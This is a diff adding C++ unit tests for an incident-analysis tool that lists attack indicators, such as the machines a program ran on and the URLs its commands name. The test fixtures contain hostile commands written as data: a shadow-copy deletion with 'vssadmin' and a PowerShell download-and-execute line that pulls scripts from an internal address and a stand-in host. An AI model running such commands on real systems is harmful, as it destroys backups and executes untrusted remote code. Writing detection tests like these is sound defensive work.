@@ -1,4 +1,5 @@
 // SPDX-License-Identifier: EUPL-1.2
+#include <fmt/format.h>
 #include <gtest/gtest.h>
 
 #include <algorithm>
@@ -123,8 +124,61 @@ TEST(Indicators, AnAddressFromWhichTheIntruderCameIsToldAndThatOfAMachineOfTheCa
     ASSERT_TRUE(source) << address;
     EXPECT_EQ(argument<std::string>(*source, "address"), address);
     EXPECT_EQ(argument<bool>(*source, "internal"), address == "10.8.0.7");
+    EXPECT_EQ(argument<std::string>(*source, "network"), address == "10.8.0.7" ? "elsewhere" : "");
     EXPECT_FALSE(finding(answer, "program")) << "a program of Windows is nobody's";
   }
+}
+
+TEST(Indicators, AProgramIsSaidToHaveRunOnEveryMachineOfTheAttack) {
+  BookForTests town;
+  add_payload(town, std::string("SHA256=") + kSha256);
+  int minute = 15;
+  for (const auto* host : {"PC2", "PC3", "PC4", "PC5", "PC6"}) {
+    town.fact("process.start", fmt::format("2026-11-08T01:{}:00Z", minute), host,
+              {{"process.executable", "C:\\Users\\a.durand\\Downloads\\facture.exe"},
+               {"process.command_line", "facture.exe"},
+               {"process.parent.executable", "C:\\Windows\\System32\\cmd.exe"},
+               {"process.pid", "88"}});
+    town.fact("process.start", fmt::format("2026-11-08T01:{}:30Z", minute++), host,
+              {{"process.executable", "C:\\Windows\\System32\\vssadmin.exe"},
+               {"process.command_line", "vssadmin delete shadows /all"},
+               {"process.parent.executable", "C:\\Users\\a.durand\\Downloads\\facture.exe"},
+               {"process.parent.pid", "88"}});
+  }
+  const Answer answer = make_question().ask(town.scene());
+  const model::Finding* program = finding(answer, "program");
+  ASSERT_TRUE(program);
+  EXPECT_EQ(argument<std::string>(*program, "host"), "PC1");
+  EXPECT_EQ(argument<std::string>(*program, "host2"), "PC2");
+  EXPECT_EQ(argument<std::string>(*program, "host4"), "PC4");
+  EXPECT_EQ(argument<std::int64_t>(*program, "more"), 2);
+  EXPECT_EQ(program->supports.size(), 6U) << "where it is seen first on each of them";
+}
+
+TEST(Indicators, WhatTheCommandsOfASureAttackNameIsToldWithItsRecord) {
+  BookForTests town;
+  add_payload(town, std::string("SHA256=") + kSha256);
+  town.fact("process.start", "2026-11-08T01:11:00Z", "PC1",
+            {{"process.executable", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},
+             {"process.command_line", "powershell iex (iwr http://10.0.9.9/a.ps1); iex (iwr https://files.example.org/b.ps1)"},
+             {"process.parent.executable", "C:\\Users\\a.durand\\Downloads\\facture.exe"},
+             {"process.parent.pid", "77"}});
+  const Scene& scene = town.scene();
+  ASSERT_EQ(scene.attack.sureness, Sureness::sure);
+  std::vector<const model::Finding*> named;
+  const Answer answer = make_question().ask(scene);
+  for (const model::Finding& one : answer.findings) {
+    if (one.statement == "named") named.push_back(&one);
+  }
+  ASSERT_EQ(named.size(), 2U);
+  EXPECT_EQ(argument<std::string>(*named[0], "address"), "http://10.0.9.9/a.ps1");
+  EXPECT_EQ(argument<std::string>(*named[0], "network"), "private");
+  EXPECT_EQ(argument<std::string>(*named[1], "address"), "https://files.example.org/b.ps1");
+  EXPECT_EQ(argument<std::string>(*named[1], "network"), "");
+  EXPECT_TRUE(argument<bool>(*named[1], "url"));
+  EXPECT_FALSE(named[0]->supports.empty());
+  EXPECT_NE(answer.sections.front().json.find(R"("type":"url","value":"http://10.0.9.9/a.ps1","internal":true)"),
+            std::string::npos);
 }
 
 TEST(Indicators, WithoutAnAttackThereIsNone) {
